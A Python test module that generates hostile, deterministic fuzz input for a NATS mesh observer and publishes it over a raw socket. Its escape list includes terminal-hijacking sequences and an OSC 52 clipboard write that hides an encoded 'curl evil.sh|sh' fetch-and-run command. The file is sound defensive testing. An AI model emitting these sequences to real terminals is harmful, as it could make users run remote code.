"""A deterministic generator of hostile mesh input, and a raw publisher that can send it.

Everything a compromised or buggy participant could put on the wire where an observer
listens: malformed and oversized JSON, invalid UTF-8 (in payloads, subjects and headers),
forged senders, wrong subject arities, nkey owners, huge channel names, deeply nested data
parts, 1 MiB texts, terminal escape / OSC / C1 / bidi sequences, lone surrogates, wrong
types, contradictory routing, future and negative timestamps, presence records with
mismatched keys, garbage channel configs and membership rows, KV delete/purge markers for
unknown peers.

``generate(space, n, seed)`` yields :class:`Hostile` items round-robin over the families, so
any prefix of the stream covers every family; the same seed gives the same bytes. Each item
is tagged with a unique marker (``hx<index>``) in a subject token, key or text so a test can
match what came out of the observer with what went in.

``RawPublisher`` speaks the NATS text protocol over a plain socket: ``PUB``/``HPUB`` with
exact byte counts, so subjects and headers can carry bytes no client library would send.
Nothing is mocked: the bytes go to a real broker and the observer under test reads them
back through its normal subscriptions and KV watches.
"""

from __future__ import annotations

import json
import random
import socket
import string
import time
from dataclasses import dataclass
from typing import Callable, Iterator

# What an item is expected to do to a conformant reader.
REJECT = "reject"  # dropped with a named reason (one of ``reasons``)
ACCEPT = "accept"  # valid envelope, hostile *content*: shown, but neutralized
EITHER = "either"  # the SPEC leaves room (e.g. huge channel, p_ owner): no crash is what counts

ESCAPES = [
    "\x1b[2J\x1b[H",  # clear screen, home
    "\x1b]0;pwned\x07",  # set window title (OSC 0)
    "\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07",  # OSC 52: write the clipboard
    "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\",  # OSC 8 hyperlink
    "\x1b[31;1mRED\x1b[0m",  # SGR
    "\x1b[1A\x1b[2K",  # cursor up + erase line: rewrite the previous line
    "\x9b2J",  # C1 CSI
    "\x9d0;c1-osc\x9c",  # C1 OSC ... ST
    "\x1bP+q544e\x1b\\",  # DCS (XTGETTCAP)
    "\x1b[6n",  # cursor position report: makes the terminal *type* into stdin
    "\x1b[?1049h",  # alternate screen
    "\r\x1b[Kfake-line",  # carriage return + erase: overwrite the current line
    "a\x08\x08\x08\x08b",  # backspaces
    "\x07\x07\x07",  # bell
    "\x00nul\x00",  # NUL
    "\x7fdel",
    "\u202eevil\u202c",  # RLO ... PDF
    "\u2066isolate\u2069",  # LRI ... PDI
    "\u202adir\u202c\u202b",  # LRE / RLE
    "zero\u200bwidth\u200d\ufeff",  # invisible
    "line\u2028sep\u2029para\x85nel",  # unicode line breaks
    "fake\n2026-01-01 00:00:00 #general ada: injected line",  # newline injection
]

BIDI_CPS = set(range(0x202A, 0x202F)) | set(range(0x2066, 0x206A))


@dataclass(frozen=True)
class Hostile:
    """One hostile input. ``subject`` is raw bytes (it may not be valid UTF-8)."""

    index: int
    family: str
    target: str  # chat | inst | svc | presence | channels | membership | manager
    subject: bytes
    payload: bytes
    headers: tuple[tuple[bytes, bytes], ...] = ()
    expect: str = REJECT
    reasons: tuple[str, ...] = ()
    kills_nats_py: bool = False  # invalid UTF-8 in a subject: see tests/test_fuzz_killers.py

    @property
    def marker(self) -> str:
        return f"hx{self.index}"

    @property
    def is_kv(self) -> bool:
        return self.target in ("presence", "channels", "membership", "manager")

    @property
    def size(self) -> int:
        return len(self.subject) + len(self.payload)


# -- builders -------------------------------------------------------------------------------


_CLOCK: list[int | None] = [None]


def _now_ms() -> int:
    """Wall clock, unless ``generate(now_ms=...)`` pinned it (bytes then fully deterministic)."""
    return _CLOCK[0] if _CLOCK[0] is not None else int(time.time() * 1000)


def _env(space: str, sender: str, marker: str, *, route: dict | None = None,
         text: str = "hostile", **extra) -> dict:
    m = {"id": f"{marker}-{sender}", "ts": _now_ms(), "space": space,
         "from": {"id": sender, "name": sender.split(".")[-1]},
         "parts": [{"kind": "text", "text": f"{marker} {text}"}]}
    m.update(route or {})
    m.update(extra)
    return m


def _j(obj) -> bytes:
    return json.dumps(obj, ensure_ascii=False, separators=(",", ":")).encode("utf-8",
                                                                            "surrogatepass")


class _Ctx:
    def __init__(self, space: str, rng: random.Random) -> None:
        self.space = space
        self.rng = rng

    def actor(self, marker: str) -> str:
        return f"{marker}_{self.rng.choice(['ada', 'bram', 'eve', 'mallory'])}"

    def subj(self, kind: str, marker: str, *, owner: str = "local", actor: str | None = None,
             channel: str = "general", role: str = "reviewer") -> tuple[str, str]:
        """(subject, sender) for a well-formed subject of ``kind``."""
        a = actor or self.actor(marker)
        s = self.space
        if kind == "chat":
            return f"cotal.{s}.chat.{owner}.{a}.{channel}", f"{owner}.{a}"
        if kind == "inst":
            return f"cotal.{s}.inst.local.bob.{owner}.{a}", f"{owner}.{a}"
        return f"cotal.{s}.svc.{role}.{owner}.{a}", f"{owner}.{a}"

    def route(self, kind: str, channel: str = "general") -> dict:
        return {"chat": {"channel": channel}, "inst": {"to": "local.bob"},
                "svc": {"toService": "reviewer"}}[kind]

    def kind(self) -> str:
        return self.rng.choice(["chat", "chat", "inst", "svc"])


Family = Callable[[_Ctx, int], Hostile]
FAMILIES: dict[str, Family] = {}


def family(name: str):
    def deco(fn: Family) -> Family:
        FAMILIES[name] = fn
        return fn
    return deco


def _msg_item(idx: int, fam: str, kind: str, subject: str, payload: bytes, expect: str,
              reasons: tuple[str, ...] = (), headers=(), kills=False) -> Hostile:
    return Hostile(idx, fam, kind, subject.encode("utf-8", "surrogatepass"), payload,
                   tuple(headers), expect, reasons, kills)


# -- message families -----------------------------------------------------------------------


@family("malformed-json")
def _malformed_json(c: _Ctx, i: int) -> Hostile:
    k = c.kind()
    mk = f"hx{i}"
    subj, sender = c.subj(k, mk)
    good = _j(_env(c.space, sender, mk, route=c.route(k)))
    variants = [
        good[: c.rng.randrange(1, len(good) - 1)],  # truncated
        b"", b"   ", b"not json at all", b"{", b"}", b"[", b"\xef\xbb\xbf" + good,  # BOM
        good + b"garbage", good + b"}", b"{'id': 'single quotes'}",
        good.replace(b'"ts":', b'"ts":NaN,"x":', 1), good.replace(b'"ts":', b'"ts":Infinity,"x":', 1),
        b'{"id":"' + mk.encode() + b'","ts":1' + b"0" * 400 + b"}",  # huge number
        b"\x00" * 16, bytes(range(256)),
        b'{"a":' * 50 + b"1" + b"}" * 49,  # unbalanced nesting
        b'{"id":"' + b"\\u" + b'zzzz"}',  # bad escape
    ]
    payload = c.rng.choice(variants)
    return _msg_item(i, "malformed-json", k, subj, payload, REJECT,
                     ("malformed-json", "malformed-envelope", "sender-mismatch"))


@family("wrong-json-type")
def _wrong_type(c: _Ctx, i: int) -> Hostile:
    k = c.kind()
    mk = f"hx{i}"
    subj, sender = c.subj(k, mk)
    payload = c.rng.choice([b"null", b"true", b"42", b'"a string"', b"[]", b"[1,2,3]",
                            _j([_env(c.space, sender, mk, route=c.route(k))])])
    return _msg_item(i, "wrong-json-type", k, subj, payload, REJECT,
                     ("malformed-envelope", "malformed-json", "sender-mismatch"))


@family("invalid-utf8-payload")
def _invalid_utf8(c: _Ctx, i: int) -> Hostile:
    k = c.kind()
    mk = f"hx{i}"
    subj, sender = c.subj(k, mk)
    good = _j(_env(c.space, sender, mk, route=c.route(k), text="XXXX"))
    bad = c.rng.choice([b"\xff\xfe", b"\xc0\xaf", b"\xed\xa0\x80", b"\xf4\x90\x80\x80",
                        b"\x80", b"\xe2\x82", b"\xf0\x9f\x98"])  # invalid, overlong, surrogate
    return _msg_item(i, "invalid-utf8-payload", k, subj, good.replace(b"XXXX", bad), REJECT,
                     ("malformed-json",))


@family("lone-surrogate")
def _lone_surrogate(c: _Ctx, i: int) -> Hostile:
    """A JSON ``\\ud800`` escape is valid JSON but not valid Unicode: a str that cannot be
    encoded to UTF-8. Printing it naively raises UnicodeEncodeError."""
    k = c.kind()
    mk = f"hx{i}"
    subj, sender = c.subj(k, mk)
    where = c.rng.choice(["text", "name", "contextId"])
    env = _env(c.space, sender, mk, route=c.route(k), text="SURR")
    if where == "name":
        env["from"]["name"] = "SURR"
    elif where == "contextId":
        env["contextId"] = "SURR"
    payload = _j(env).replace(b"SURR", c.rng.choice([b"\\ud800", b"\\udfff", b"a\\udc00b"]))
    return _msg_item(i, "lone-surrogate", k, subj, payload, EITHER,
                     ("malformed-json", "malformed-envelope"))


@family("forged-sender")
def _forged(c: _Ctx, i: int) -> Hostile:
    k = c.kind()
    mk = f"hx{i}"
    subj, sender = c.subj(k, mk)
    env = _env(c.space, sender, mk, route=c.route(k))
    v = c.rng.randrange(6)
    if v == 0:
        env["from"]["id"] = "local.ceo"
    elif v == 1:
        del env["from"]
    elif v == 2:
        env["from"] = "local.ceo"
    elif v == 3:
        env["from"]["id"] = sender.upper()
    elif v == 4:
        env["from"] = {"name": "no id"}
    else:
        env["from"]["id"] = sender + " "
    return _msg_item(i, "forged-sender", k, subj, _j(env), REJECT,
                     ("sender-mismatch", "malformed-envelope"))


@family("wrong-arity")
def _arity(c: _Ctx, i: int) -> Hostile:
    mk = f"hx{i}"
    s = c.space
    k = c.kind()
    a = c.actor(mk)
    subj = {
        "chat": c.rng.choice([f"cotal.{s}.chat.local.{a}", f"cotal.{s}.chat.local"]),
        "inst": c.rng.choice([f"cotal.{s}.inst.local.bob.local.{a}.extra",
                              f"cotal.{s}.inst.local.bob.{a}", f"cotal.{s}.inst.{a}"]),
        "svc": c.rng.choice([f"cotal.{s}.svc.reviewer.local.{a}.x", f"cotal.{s}.svc.local.{a}",
                             f"cotal.{s}.svc.{a}"]),
    }[k]
    env = _env(s, f"local.{a}", mk, route=c.route(k))
    return _msg_item(i, "wrong-arity", k, subj, _j(env), REJECT, ("malformed-subject",))


@family("nkey-owner")
def _nkey_owner(c: _Ctx, i: int) -> Hostile:
    k = c.kind()
    mk = f"hx{i}"
    nkey = c.rng.choice("UA") + "".join(c.rng.choice(string.ascii_uppercase + "234567")
                                        for _ in range(55))
    owner = c.rng.choice([nkey, "u_short", "U_" + "A" * 26, "u_" + "A" * 26, "LOCAL",
                          "p_" + "a" * 26, "root", "u_" + "a" * 27])
    subj, sender = c.subj(k, mk, owner=owner)
    env = _env(c.space, sender, mk, route=c.route(k))
    return _msg_item(i, "nkey-owner", k, subj, _j(env), REJECT, ("non-principal-owner",))


@family("bad-subject-token")
def _bad_token(c: _Ctx, i: int) -> Hostile:
    """Escape bytes, dashes and stars in identity/route tokens (legal NATS bytes)."""
    k = c.kind()
    mk = f"hx{i}"
    tok = c.rng.choice([f"{mk}\x1b[2J", f"{mk}-dash", f"{mk}\x07", f"{mk}\u202e",
                        f"{mk}\x9b31m", f"{mk}\x00", f"{mk}\u2028"])
    route_slot = False
    if k == "chat" and c.rng.random() < 0.5:
        subj, sender = c.subj(k, mk, channel=f"gen{tok}")
        route_slot = True
    elif k == "svc" and c.rng.random() < 0.5:
        subj, sender = c.subj(k, mk, role=tok)
        route_slot = True
    else:
        subj, sender = c.subj(k, mk, actor=tok)
    env = _env(c.space, sender, mk, route=c.route(k))
    # a dash is legal in channel and role segments ([A-Za-z0-9_-]), never in owner/actor
    expect = ACCEPT if route_slot and tok.endswith("-dash") else REJECT
    return _msg_item(i, "bad-subject-token", k, subj, _j(env), expect,
                     ("malformed-subject", "sender-mismatch"))


@family("invalid-utf8-subject")
def _utf8_subject(c: _Ctx, i: int) -> Hostile:
    """Invalid UTF-8 bytes inside a subject token. The broker relays them; nats-py decodes
    every subject with ``bytes.decode()`` in its read loop and dies on them."""
    k = "chat"
    mk = f"hx{i}"
    subj, sender = c.subj(k, mk, channel=f"g{mk}XX")
    env = _env(c.space, sender, mk, route={"channel": f"g{mk}XX"})
    bad = c.rng.choice([b"\xff", b"\xc3\x28", b"\xed\xa0\x80"])
    return Hostile(i, "invalid-utf8-subject", k, subj.encode().replace(b"XX", bad), _j(env),
                   (), REJECT, ("malformed-subject",), True)


@family("huge-channel")
def _huge_channel(c: _Ctx, i: int) -> Hostile:
    mk = f"hx{i}"
    v = c.rng.randrange(4)
    if v == 0:
        ch = f"{mk}." + ".".join(f"s{j}" for j in range(c.rng.randrange(200, 2000)))
    elif v == 1:
        ch = mk + "x" * c.rng.randrange(3000, 4096)
    elif v == 2:
        ch = mk + "y" * c.rng.randrange(4097, 30000)  # over MAX_CHANNEL_LENGTH
    else:
        ch = mk + "." + "z" * 8000 + "." + "w" * 8000
    subj, sender = c.subj("chat", mk, channel=ch)
    env = _env(c.space, sender, mk, route={"channel": ch})
    return _msg_item(i, "huge-channel", "chat", subj, _j(env), EITHER, ("malformed-subject",))


@family("deep-data")
def _deep(c: _Ctx, i: int) -> Hostile:
    k = c.kind()
    mk = f"hx{i}"
    subj, sender = c.subj(k, mk)
    depth = c.rng.choice([64, 600, 5000, 50_000])
    shape = c.rng.choice(["list", "dict"])
    data = ("[" * depth + "]" * depth) if shape == "list" else ('{"a":' * depth + "1" + "}" * depth)
    env = _env(c.space, sender, mk, route=c.route(k))
    env["parts"].append({"kind": "data", "data": "DEEP"})
    payload = _j(env).replace(b'"DEEP"', data.encode())
    return _msg_item(i, "deep-data", k, subj, payload, EITHER,
                     ("malformed-json", "malformed-envelope"))


@family("huge-text")
def _huge_text(c: _Ctx, i: int) -> Hostile:
    """Close to 1 MiB of text (the broker's default max_payload); rare to keep runs quick."""
    k = c.kind()
    mk = f"hx{i}"
    subj, sender = c.subj(k, mk)
    if c.rng.random() < 0.05:
        size = 1024 * 1024 - 4096
    else:
        size = c.rng.randrange(8_000, 64_000)
    body = c.rng.choice(["A", "é", "\x1b[2J", "\u202e", "😀", "\n"]) * (size // 8)
    env = _env(c.space, sender, mk, route=c.route(k), text=body[: size // 2])
    payload = _j(env)
    if len(payload) > 1024 * 1024 - 512:
        env["parts"][0]["text"] = env["parts"][0]["text"][: (1024 * 1024 - 8192) // 4]
        payload = _j(env)
    return _msg_item(i, "huge-text", k, subj, payload, ACCEPT)


@family("escapes")
def _escapes(c: _Ctx, i: int) -> Hostile:
    k = c.kind()
    mk = f"hx{i}"
    subj, sender = c.subj(k, mk)
    esc = "".join(c.rng.choice(ESCAPES) for _ in range(c.rng.randrange(1, 4)))
    env = _env(c.space, sender, mk, route=c.route(k), text=esc)
    where = c.rng.randrange(6)
    if where == 1:
        env["from"]["name"] = esc
    elif where == 2:
        env["from"]["role"] = esc
    elif where == 3:
        env["mentions"] = [esc, "ada"]
    elif where == 4:
        env["contextId"] = esc
        env["replyTo"] = esc
    elif where == 5:
        env["parts"].append({"kind": "artifact", "name": esc, "mediaType": esc,
                             "digest": "sha256:" + "a" * 64, "size": 1})
    return _msg_item(i, "escapes", k, subj, _j(env), ACCEPT)


@family("wrong-types")
def _wrong_types(c: _Ctx, i: int) -> Hostile:
    k = c.kind()
    mk = f"hx{i}"
    subj, sender = c.subj(k, mk)
    env = _env(c.space, sender, mk, route=c.route(k))
    v = c.rng.randrange(12)
    if v == 0:
        env["id"] = 12345
    elif v == 1:
        del env["id"]
    elif v == 2:
        env["ts"] = "yesterday"
    elif v == 3:
        env["parts"] = "text"
    elif v == 4:
        env["parts"] = [{"text": "no kind"}]
    elif v == 5:  # a non-string text part is kept as a marker (upstream parts.ts): shown
        env["parts"] = [{"kind": "text", "text": 42}]
        return _msg_item(i, "wrong-types", k, subj, _j(env), ACCEPT)
    elif v == 6:
        env["parts"] = [{"kind": "artifact", "name": "x", "mediaType": "y",
                         "digest": "md5:abc", "size": -1}]
    elif v == 7:
        env["parts"] = [{"kind": "bogus"}]
    elif v == 8:  # legacy shape, kept as ``[empty data part]`` (upstream parts.ts): shown
        env["parts"] = [{"kind": "data"}]
        return _msg_item(i, "wrong-types", k, subj, _j(env), ACCEPT)
    elif v == 9:
        env["mentions"] = "ada"
    elif v == 10:
        env["space"] = None
    else:
        env["parts"] = [None, 1, "x"]
    return _msg_item(i, "wrong-types", k, subj, _j(env), REJECT,
                     ("malformed-envelope", "non-conformant-part-kind",
                      "non-conformant-envelope", "malformed-json"))


@family("routing-confusion")
def _routing(c: _Ctx, i: int) -> Hostile:
    k = c.kind()
    mk = f"hx{i}"
    subj, sender = c.subj(k, mk)
    env = _env(c.space, sender, mk)
    v = c.rng.randrange(4)
    if v == 0:  # all three routing fields
        env.update({"channel": "general", "to": "local.bob", "toService": "reviewer"})
        return _msg_item(i, "routing-confusion", k, subj, _j(env), REJECT,
                         ("non-conformant-envelope",))
    if v == 1:  # none
        return _msg_item(i, "routing-confusion", k, subj, _j(env), REJECT,
                         ("non-conformant-envelope",))
    # one field, but it lies about where the message went: the subject wins
    env.update(c.rng.choice([{"channel": "secret-board"}, {"to": "local.ceo"},
                             {"toService": "root"}]))
    return _msg_item(i, "routing-confusion", k, subj, _j(env), EITHER,
                     ("non-conformant-envelope",))


@family("timestamps")
def _timestamps(c: _Ctx, i: int) -> Hostile:
    k = c.kind()
    mk = f"hx{i}"
    subj, sender = c.subj(k, mk)
    env = _env(c.space, sender, mk, route=c.route(k))
    env["ts"] = c.rng.choice([-1, 0, -10**15, 10**15, 2**53 + 1, 10**20, 1.5, -0.0,
                              _now_ms() + 86_400_000 * 365, 9_999_999_999_999_999_999])
    return _msg_item(i, "timestamps", k, subj, _j(env), EITHER, ("malformed-envelope",))


@family("ids")
def _ids(c: _Ctx, i: int) -> Hostile:
    k = c.kind()
    mk = f"hx{i}"
    subj, sender = c.subj(k, mk)
    env = _env(c.space, sender, mk, route=c.route(k))
    env["id"] = c.rng.choice(["", "dup-id-1", "dup-id-1", "x" * 10_000, "\x1b[2J", " "])
    return _msg_item(i, "ids", k, subj, _j(env), ACCEPT)


@family("oversized-fields")
def _oversized(c: _Ctx, i: int) -> Hostile:
    k = c.kind()
    mk = f"hx{i}"
    subj, sender = c.subj(k, mk)
    env = _env(c.space, sender, mk, route=c.route(k))
    v = c.rng.randrange(4)
    if v == 0:
        env["from"]["name"] = "N" * 100_000
    elif v == 1:
        env["mentions"] = [f"m{j}" for j in range(20_000)]
    elif v == 2:
        env["parts"] = [{"kind": "text", "text": f"{mk} p{j}"} for j in range(5_000)]
    else:
        env["extra_unknown_field"] = {"x": "y" * 50_000}
    return _msg_item(i, "oversized-fields", k, subj, _j(env), ACCEPT)


@family("weird-headers")
def _headers(c: _Ctx, i: int) -> Hostile:
    k = c.kind()
    mk = f"hx{i}"
    subj, sender = c.subj(k, mk)
    env = _env(c.space, sender, mk, route=c.route(k))
    v = c.rng.randrange(4)
    if v == 0:
        h = ((b"Nats-Msg-Id", b"x" * 2000),)
    elif v == 1:
        h = ((b"X-Esc", b"\x1b]52;c;AAAA\x07"),)
    elif v == 2:
        h = ((b"Cotal-Delivery-Frame", b"1"), (b"X-Many", b"v" * 100))
    else:
        h = ((b"X-Bad", b"\xff\xfe"),)
    return _msg_item(i, "weird-headers", k, subj, _j(env), ACCEPT, headers=h)


# -- KV families ----------------------------------------------------------------------------


def _card(pid: str, name: str) -> dict:
    return {"id": pid, "name": name, "kind": "agent", "protocolVersion": "0.4"}


def _presence(pid: str, name: str, **over) -> dict:
    rec = {"card": _card(pid, name), "status": "idle", "ts": _now_ms(),
           "lifecycleUid": "a" * 26}
    rec.update(over)
    return rec


def _kv(idx: int, fam: str, bucket_kind: str, space: str, key: str | bytes, payload: bytes,
        expect: str, reasons: tuple[str, ...] = (), op: bytes | None = None,
        kills: bool = False) -> Hostile:
    k = key if isinstance(key, bytes) else key.encode("utf-8", "surrogatepass")
    subject = f"$KV.cotal_{bucket_kind}_{space}.".encode() + k
    headers = ((b"KV-Operation", op),) if op else ()
    return Hostile(idx, fam, bucket_kind, subject, payload, headers, expect, reasons, kills)


@family("presence-mismatch")
def _presence_mismatch(c: _Ctx, i: int) -> Hostile:
    mk = f"hx{i}"
    key = f"local.{mk}"
    v = c.rng.randrange(5)
    if v == 0:
        rec = _presence("local.ceo", "ceo")  # record claims another principal
    elif v == 1:
        rec = _presence(key.upper(), mk)
    elif v == 2:
        rec = _presence(f"local.{mk}.extra", mk)
    elif v == 3:
        rec = _presence(key, mk)
        rec["card"] = "not a card"
    else:
        rec = _presence(key, mk)
        del rec["card"]["id"]
    return _kv(i, "presence-mismatch", "presence", c.space, key, _j(rec), REJECT,
               ("key-mismatch", "malformed-record"))


@family("presence-owner")
def _presence_owner(c: _Ctx, i: int) -> Hostile:
    mk = f"hx{i}"
    owner = c.rng.choice(["U" + "A" * 55, "u_bad", "p_" + "b" * 26, "LOCAL"])
    key = f"{owner}.{mk}"
    return _kv(i, "presence-owner", "presence", c.space, key, _j(_presence(key, mk)), REJECT,
               ("non-principal-owner",))


@family("presence-garbage")
def _presence_garbage(c: _Ctx, i: int) -> Hostile:
    mk = f"hx{i}"
    key = f"local.{mk}"
    v = c.rng.randrange(8)
    if v == 0:
        return _kv(i, "presence-garbage", "presence", c.space, key, b"{not json", REJECT,
                   ("malformed-json",))
    if v == 1:
        return _kv(i, "presence-garbage", "presence", c.space, key,
                   _j(_presence(key, "XX")).replace(b"XX", b"\xff\xfe"), REJECT,
                   ("malformed-json",))
    if v == 2:
        return _kv(i, "presence-garbage", "presence", c.space, key,
                   _j(_presence(key, mk, status="partying")), REJECT, ("invalid-status",))
    if v == 3:
        return _kv(i, "presence-garbage", "presence", c.space, key, b"", REJECT,
                   ("malformed-json",))
    if v == 4:
        return _kv(i, "presence-garbage", "presence", c.space, key, b"[]", REJECT,
                   ("malformed-record",))
    if v == 5:
        return _kv(i, "presence-garbage", "presence", c.space, key,
                   _j(_presence(key, mk, ts="now")), REJECT, ("malformed-record",))
    if v == 6:
        return _kv(i, "presence-garbage", "presence", c.space,
                   "_cotal_ttl_reconcile", _j({"canary": True}), EITHER, ("reserved-key",))
    return _kv(i, "presence-garbage", "presence", c.space, key, b"",
               EITHER, ("kv-delete", "kv-purge"), op=c.rng.choice([b"DEL", b"PURGE"]))


@family("presence-time")
def _presence_time(c: _Ctx, i: int) -> Hostile:
    mk = f"hx{i}"
    key = f"local.{mk}"
    ts = c.rng.choice([-1, 0, -10**12, _now_ms() + 10**9, 10**18, 2**63, 1.5])
    rec = _presence(key, mk, ts=ts, statusSince=c.rng.choice([ts, -5, 10**17]),
                    activeAt=c.rng.choice([None, -1, 10**16]))
    rec = {k: v for k, v in rec.items() if v is not None}
    return _kv(i, "presence-time", "presence", c.space, key, _j(rec), EITHER,
               ("stale", "malformed-record"))


@family("presence-escapes")
def _presence_escapes(c: _Ctx, i: int) -> Hostile:
    mk = f"hx{i}"
    key = f"local.{mk}"
    esc = "".join(c.rng.choice(ESCAPES) for _ in range(2))
    rec = _presence(key, f"{mk}{esc}", status=c.rng.choice(["working", "waiting", "idle"]),
                    activity=esc * c.rng.choice([1, 1, 1, 500]))
    v = c.rng.randrange(4)
    if v == 0:
        rec["condition"] = {"code": "approval", "message": esc, "source": esc}
    elif v == 1:
        rec["card"]["role"] = esc
        rec["card"]["description"] = esc
        rec["card"]["meta"] = {"model": esc, "cwd": esc}
    elif v == 2:
        rec["channelModes"] = {esc: "muted"}
        rec["card"]["tags"] = [esc] * 50
    else:
        rec["condition"] = {"code": esc}
    return _kv(i, "presence-escapes", "presence", c.space, key, _j(rec), EITHER,
               ("malformed-record", "invalid-status"))


@family("presence-huge")
def _presence_huge(c: _Ctx, i: int) -> Hostile:
    mk = f"hx{i}"
    key = f"local.{mk}"
    rec = _presence(key, mk)
    v = c.rng.randrange(3)
    if v == 0:
        rec["card"]["name"] = "N" * 200_000
    elif v == 1:
        rec["card"]["skills"] = [{"id": f"s{j}", "name": f"s{j}"} for j in range(5000)]
    else:
        rec["card"]["meta"] = {f"k{j}": "v" * 50 for j in range(5000)}
    return _kv(i, "presence-huge", "presence", c.space, key, _j(rec), EITHER,
               ("malformed-record",))


@family("channel-config")
def _channel_config(c: _Ctx, i: int) -> Hostile:
    mk = f"hx{i}"
    key = c.rng.choice([f"{mk}", f"team.{mk}", "=defaults", f"{mk}.a.b.c"])
    esc = c.rng.choice(ESCAPES)
    payload = c.rng.choice([
        b"{broken", b"null", b"[]", b'"str"', _j({"replay": "yes"}),
        _j({"replayWindow": "forever"}), _j({"replayWindow": "99999999999999d"}),
        _j({"deliveryClass": "teleport"}), _j({"description": esc * 100}),
        _j({"instructions": esc + "I" * 100_000}), b"\xff\xfe",
        _j({"description": "ok", "replay": True, "unknown": {"deep": [[[[]]]]}}),
    ])
    return _kv(i, "channel-config", "channels", c.space, key, payload, EITHER)


@family("membership-rows")
def _membership(c: _Ctx, i: int) -> Hostile:
    mk = f"hx{i}"
    key = c.rng.choice([f"local.{mk}", "=feed", f"U{'A' * 55}.{mk}"])
    esc = c.rng.choice(ESCAPES)
    payload = c.rng.choice([
        b"{", b"null", _j({"live": "chat.>", "durable": 5, "observedAt": "x"}),
        _j({"live": [esc] * 10, "durable": [f"ch{j}" for j in range(10_000)],
            "observedAt": -1}),
        _j({"observedAt": 10**20}), b"\xc0\xaf",
    ])
    return _kv(i, "membership-rows", "membership", c.space, key, payload, EITHER)


@family("manager-lease")
def _manager_lease(c: _Ctx, i: int) -> Hostile:
    """Manager lease rows (``lease.<instanceId>``): garbage values, escapes, odd keys."""
    mk = f"hx{i}"
    key = c.rng.choice([f"lease.{mk}", f"lease.{mk}.extra", f"{mk}", f"lease_{mk}"])
    esc = c.rng.choice(ESCAPES)
    payload = c.rng.choice([
        b"{", b"null", b"[]", b"\xff\xfe",
        _j({"holder": esc, "runtime": esc, "root": esc * 20, "pid": "x", "since": -1}),
        _j({"holder": "local.x", "runtime": "pty", "root": "/", "pid": 1, "since": 10**20}),
        _j({"holder": ["not", "a", "string"], "since": "yesterday"}),
    ])
    return _kv(i, "manager-lease", "manager", c.space, key, payload, EITHER,
               op=c.rng.choice([None, None, None, b"DEL"]))


# -- the stream -----------------------------------------------------------------------------

#: Families whose items are heavy (MBs) or kill nats-py; excluded unless asked for.
HEAVY = {"huge-text"}
CLIENT_KILLERS = {"invalid-utf8-subject"}


def generate(space: str, n: int = 10_000, seed: int = 7, *,
             families: list[str] | None = None,
             include_killers: bool = False, now_ms: int | None = None) -> Iterator[Hostile]:
    """``n`` hostile items, round-robin over ``families`` (default: all but client killers).

    Items flagged ``kills_nats_py`` (invalid UTF-8 in a subject) are skipped unless
    ``include_killers``; they get their own test. Timestamps use the wall clock at generation
    (so presence is fresh); pass ``now_ms`` for byte-identical output across runs.
    """
    rng = random.Random(seed)
    ctx = _Ctx(space, rng)
    names = list(families or [f for f in FAMILIES if include_killers or f not in CLIENT_KILLERS])
    i = 0
    made = 0
    while made < n:
        fam = names[i % len(names)]
        _CLOCK[0] = now_ms
        try:
            item = FAMILIES[fam](ctx, i)
        finally:
            _CLOCK[0] = None
        i += 1
        if item.kills_nats_py and not include_killers:
            continue
        made += 1
        yield item


# -- raw publishing -------------------------------------------------------------------------


class RawPublisher:
    """``PUB``/``HPUB`` over a plain socket (open-mode brokers): exact bytes, no client lib.

    Only for open/no-auth brokers (it sends a bare CONNECT). ``flush()`` round-trips a PING
    so everything written before it has been processed by the broker.
    """

    def __init__(self, host: str, port: int, timeout: float = 10.0) -> None:
        self.sock = socket.create_connection((host, port), timeout=timeout)
        self._buf = b""
        info = self._line()
        if not info.startswith(b"INFO"):
            raise RuntimeError(f"not a NATS server: {info[:40]!r}")
        self.max_payload = json.loads(info[5:]).get("max_payload", 1024 * 1024)
        self.sock.sendall(b'CONNECT {"verbose":false,"pedantic":false,"headers":true,'
                          b'"protocol":1,"name":"hostile"}\r\n')
        self.flush()

    @classmethod
    def to(cls, url: str) -> "RawPublisher":
        hostport = url.split("://", 1)[-1].rsplit("@", 1)[-1]
        host, port = hostport.rsplit(":", 1)
        return cls(host, int(port))

    def _line(self) -> bytes:
        while b"\r\n" not in self._buf:
            chunk = self.sock.recv(65536)
            if not chunk:
                raise ConnectionError("broker closed the connection")
            self._buf += chunk
        line, self._buf = self._buf.split(b"\r\n", 1)
        return line

    def publish(self, subject: bytes, payload: bytes,
                headers: tuple[tuple[bytes, bytes], ...] = ()) -> None:
        if headers:
            hdr = b"NATS/1.0\r\n" + b"".join(k + b": " + v + b"\r\n" for k, v in headers) + b"\r\n"
            frame = (b"HPUB " + subject + b" %d %d\r\n" % (len(hdr), len(hdr) + len(payload))
                     + hdr + payload + b"\r\n")
        else:
            frame = b"PUB " + subject + b" %d\r\n" % len(payload) + payload + b"\r\n"
        self.sock.sendall(frame)

    def send(self, item: Hostile) -> None:
        self.publish(item.subject, item.payload, item.headers)

    def flush(self) -> None:
        self.sock.sendall(b"PING\r\n")
        while True:
            line = self._line()
            if line == b"PONG":
                return
            if line.startswith(b"-ERR"):
                raise RuntimeError(line.decode(errors="replace"))
            # PING from server / +OK: ignore
            if line == b"PING":
                self.sock.sendall(b"PONG\r\n")

    def close(self) -> None:
        try:
            self.sock.close()
        except OSError:
            pass

    def __enter__(self) -> "RawPublisher":
        return self

    def __exit__(self, *exc) -> None:
        self.close()


# -- output checks --------------------------------------------------------------------------


def raw_control_bytes(out: bytes) -> list[tuple[int, str]]:
    """Positions of bytes/characters that must never reach a terminal from wire text:
    C0 other than ``\\n``, DEL, C1 (as UTF-8 code points U+0080–U+009F), bidi controls."""
    bad: list[tuple[int, str]] = []
    for pos, b in enumerate(out):
        if (b < 0x20 and b != 0x0A) or b == 0x7F:
            bad.append((pos, f"0x{b:02x}"))
    text = out.decode("utf-8", "replace")
    for pos, ch in enumerate(text):
        cp = ord(ch)
        if 0x80 <= cp <= 0x9F or cp in BIDI_CPS:
            bad.append((pos, f"U+{cp:04X}"))
    return bad
